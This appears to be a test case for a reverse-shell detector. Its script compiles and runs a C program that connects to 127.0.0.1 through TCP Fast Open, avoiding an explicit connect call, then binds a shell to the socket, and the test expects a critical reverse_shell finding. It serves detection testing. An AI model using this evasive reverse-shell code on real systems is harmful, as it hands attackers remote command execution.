# about: the first data makes the connection: no call to connect
# expect: reverse_shell critical
# needs: python3 gcc
proven 4527 fastopen
cat >a.c <<'C'
#define _GNU_SOURCE
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={AF_INET,htons(4527)};a.sin_addr.s_addr=htonl(0x7f000001);
 if(sendto(s,"hello\n",6,MSG_FASTOPEN,(void*)&a,sizeof a)<0)return 1;
 for(int i=0;i<3;i++)dup2(s,i);execl("/bin/sh","sh",(char*)0);}
C
gcc -w -o a a.c
timeout 6 ./a
answered
